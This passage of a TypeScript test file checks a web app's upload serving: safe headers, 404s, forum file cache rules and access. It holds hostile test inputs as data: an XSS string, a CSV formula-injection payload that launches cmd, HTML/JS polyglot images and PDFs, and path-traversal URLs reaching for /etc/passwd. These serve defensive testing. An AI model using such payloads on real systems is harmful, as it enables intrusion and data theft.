      expect((await objectKeys()).filter((k) => !before.includes(k))).toEqual([upload.path])
    },
  )

  it.each(NAMES.filter(([, name]) => name.length <= 200))(
    'names with %s (base64 JSON, sent exactly)',
    async (_what, name, shown) => {
      const res = await postImage(member, { data: base64(PNG), path: 'event', filename: name })
      expect((await check(res, name)).client_filename).toBe(shown)
    },
  )

  it('keeps the end of a long name, where its extension is', async () => {
    const res = await postFile(member, PNG, `${'b'.repeat(400)}.png`, 'image/png')
    expect(res.body.data!.client_filename).toBe(`${'b'.repeat(196)}.png`)
  })
})

describe('serving', () => {
  const fetchFile = (src: string, headers: Record<string, string> = {}) =>
    exports.default.fetch(`${ORIGIN}${src}`, { headers })
  const served = (res: Response) => ({
    type: res.headers.get('content-type'),
    nosniff: res.headers.get('x-content-type-options'),
    disposition: (res.headers.get('content-disposition') ?? '').split(';')[0],
    sandboxed: (res.headers.get('content-security-policy') ?? '').split(/;\s*/).includes('sandbox'),
  })

  it.each([
    ['notes.txt', bytesOf('<html><script>alert(1)</script>'), 'text/plain'],
    ['table.csv', bytesOf("=cmd|' /C calc'!A0,b\n"), 'text/csv'],
    ['minutes.pdf', bytesOf('%PDF-1.7\n%%EOF\n'), 'application/pdf'],
    ['song.mp3', concat('ID3', [4, 0, 0, 0, 0, 0, 0]), 'audio/mpeg'],
    ['clip.mp4', concat([0, 0, 0, 0x18], 'ftypisom', [0, 0, 2, 0], 'isomiso2'), 'video/mp4'],
    [
      'report.docx',
      minimalDocx(),
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    ],
    [
      'budget.xlsx',
      minimalXlsx(),
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    ],
  ])(
    'serves %s as a download of its stored type with nosniff and a sandbox',
    async (name, bytes, type) => {
      const upload = (await postFile(member, bytes, name)).body.data!
      const res = await fetchFile(upload.src)
      expect(res.status).toBe(200)
      expect(served(res)).toEqual({
        type,
        nosniff: 'nosniff',
        disposition: 'attachment',
        sandboxed: true,
      })
      servedChecks += 1
    },
  )

  it.each([
    [
      'a whole GIF whose width bytes open a JS comment',
      'image/gif',
      'inline',
      'pixel.gif',
      GIF_JS_VALID,
    ],
    [
      'a JPEG whose comment segment holds HTML',
      'image/jpeg',
      'inline',
      'photo.jpg',
      JPEG_COMMENT_HTML,
    ],
    ['a PDF holding an HTML page', 'application/pdf', 'attachment', 'minutes.pdf', PDF_HTML],
  ])('accepts %s and serves it inert: %s, %s', async (_what, type, disposition, name, bytes) => {
    const upload = (await postFile(member, bytes, name)).body.data!
    expect(upload.mime).toBe(type)
    const res = await fetchFile(upload.src)
    expect(served(res)).toEqual({ type, nosniff: 'nosniff', disposition, sandboxed: true })
    expect(new Uint8Array(await res.arrayBuffer())).toEqual(bytes)
    inert += 1
  })

  it('answers 404 for an upload whose row is gone, even though its object remains', async () => {
    const upload = (await postImage(member, { data: base64(PNG), path: 'event' })).body.data!
    await env.DB.prepare('DELETE FROM uploads WHERE id = ?').bind(upload.id).run()
    expect(await env.UPLOADS.head(upload.path)).not.toBeNull()
    expect((await fetchFile(upload.src)).status).toBe(404)
    servedChecks += 1
  })

  it.each([
    ['a plain GET', {}],
    ['a conditional GET', { 'if-none-match': '"anything"' }],
    ['a Range request', { range: 'bytes=0-3' }],
  ])('answers 404, not 500, when the R2 object is missing (%s)', async (_what, headers) => {
    const song = (await postFile(member, concat('ID3', [4, 0, 0, 0, 0, 0, 0, 1, 2, 3]), 'song.mp3'))
      .body.data!
    await env.UPLOADS.delete(song.path)
    expect((await fetchFile(song.src, headers)).status).toBe(404)
    servedChecks += 1
  })

  it.each([
    '/api/files/..%2F..%2Fwrangler.toml',
    '/api/files/images/event/..%2F..%2F..%2Fetc%2Fpasswd',
    '/api/files/%2e%2e/%2e%2e/etc/passwd',
    '/api/files/images%5C..%5C..%5Cwrangler.toml',
  ])('answers 404 for a traversal path %s', async (path) => {
    expect((await fetchFile(path)).status).toBe(404)
    servedChecks += 1
  })
})

describe('private files: kept by no shared cache, and off with the forum', () => {
  const PUBLIC_CACHE = 'public, max-age=31536000, immutable'
  const PRIVATE_CACHE = 'private, no-store'
  const PDF = bytesOf('%PDF-1.7\n%%EOF\n')
  const uploadAs = async (session: Session, bytes: Uint8Array, name: string, kind: string) => {
    const form = new FormData()
    form.set('file', new File([new Uint8Array(bytes)], name))
    form.set('kind', kind)
    const res = (await call('/api/uploads', { form, session })) as Result
    expect(res.status, JSON.stringify(res.body)).toBe(201)
    return res.body.data!
  }
  const postThread = async (session: Session, json: Record<string, unknown>) => {
    const res = await call('/api/forum/threads', { session, json: { body: 'Files', ...json } })
    expect(res.status, JSON.stringify(res.body)).toBe(201)
  }
  const fetchAs = (upload: UploadResource, session: Session | null) =>
    exports.default.fetch(`${ORIGIN}${upload.src}`, {
      headers: session?.cookie ? { cookie: session.cookie } : {},
    })
  /** A member whose custom role holds `key`. */
  const holderOf = async (key: string) => {
    const role = await createCustomRole([key])
    const user = await createUser({ roleId: role.id })
    return { cookie: (await mintSession(user.id)).cookie }
  }

  /** A forum draft, a file on a public thread and one on a private thread, all by `author`. */
  const forumFiles = async (author: Session) => {
    const category = await createForumCategory()
    const draft = await uploadAs(author, PNG, 'draft.png', 'forum')
    const onPublic = await uploadAs(author, PDF, 'minutes.pdf', 'forum')
    const onPrivate = await uploadAs(author, PNG, 'secret.png', 'forum')
    await postThread(author, {
      forum_category_id: category.id,
      title: 'Open',
      uploads: [onPublic.id],
    })
    await postThread(author, {
      forum_category_id: category.id,
      title: 'Closed',
      private: true,
      uploads: [onPrivate.id],
    })
    return { draft, onPublic, onPrivate }
  }

  it('serves every file whose answer depends on who asks private, no-store; public kinds keep the long cache', async () => {
    // Contributors may start private threads.
    const author = (await forumMember({ role: 'contributor' })).session
    const reader = (await forumMember()).session
    const { draft, onPublic, onPrivate } = await forumFiles(author)
    const cases: [string, UploadResource, Session | null][] = [
      ['a forum draft, to its uploader', draft, author],
      ['a public thread’s file, to a visitor', onPublic, null],
      ['a public thread’s file, to a member', onPublic, reader],
      ['a private thread’s file, to its author', onPrivate, author],
    ]
    for (const [what, upload, session] of cases) {
      const res = await fetchAs(upload, session)
      expect({ what, status: res.status, cache: res.headers.get('cache-control') }).toEqual({
        what,
        status: 200,
        cache: PRIVATE_CACHE,
      })
      privateChecks += 1
    }
    for (const kind of ['event', 'avatar', 'site', 'editor', 'resource', 'file']) {
      const upload = await uploadAs(author, PNG, `${kind}.png`, kind)
      const res = await fetchAs(upload, null)
      expect({ kind, status: res.status, cache: res.headers.get('cache-control') }).toEqual({
        kind,
        status: 200,
        cache: PUBLIC_CACHE,
      })
      privateChecks += 1
    }
  })

  it('refuses forum files while the forum is off (403), except to forum managers', async () => {
    // Contributors may start private threads.
    const author = (await forumMember({ role: 'contributor' })).session
    const reader = (await forumMember()).session
    const files = await forumFiles(author)
    const event = await uploadAs(author, PNG, 'poster.png', 'event')
    const principals: [string, Session | null, boolean][] = [
      ['a visitor', null, false],
      ['a member', reader, false],
      ['the uploader', author, false],
      ['a groups.manage holder', await holderOf('groups.manage'), false],
      ['a forum-threads.manage holder', await holderOf('forum-threads.manage'), true],
      ['a forum-categories.manage holder', await holderOf('forum-categories.manage'), true],
      ['an admin', (await signedInAs('admin')).session, true],
    ]
    const restore = await switchForumOff()
    try {
      for (const [who, session, manages] of principals) {
        for (const [name, upload] of Object.entries(files)) {
          const res = await fetchAs(upload, session)
          const seen = {
            who,
            name,
            status: res.status,
            message:
              res.status === 403 ? ((await res.json()) as { message: string }).message : null,
            cache: res.status === 200 ? res.headers.get('cache-control') : null,
          }
          // Managers read every thread; a draft stays its uploader's alone.
          const managerStatus = name === 'draft' ? 404 : 200
          expect(seen).toEqual(
            manages
              ? {
                  who,
                  name,
                  status: managerStatus,
                  message: null,
                  cache: managerStatus === 200 ? PRIVATE_CACHE : null,
                }
              : { who, name, status: 403, message: 'The forum is switched off', cache: null },
          )
          privateChecks += 1
        }
        // A file outside the forum is not affected.
        expect((await fetchAs(event, session)).status).toBe(200)
      }
    } finally {
      await restore()
    }
    expect((await fetchAs(files.onPublic, reader)).status).toBe(200)
  })
})
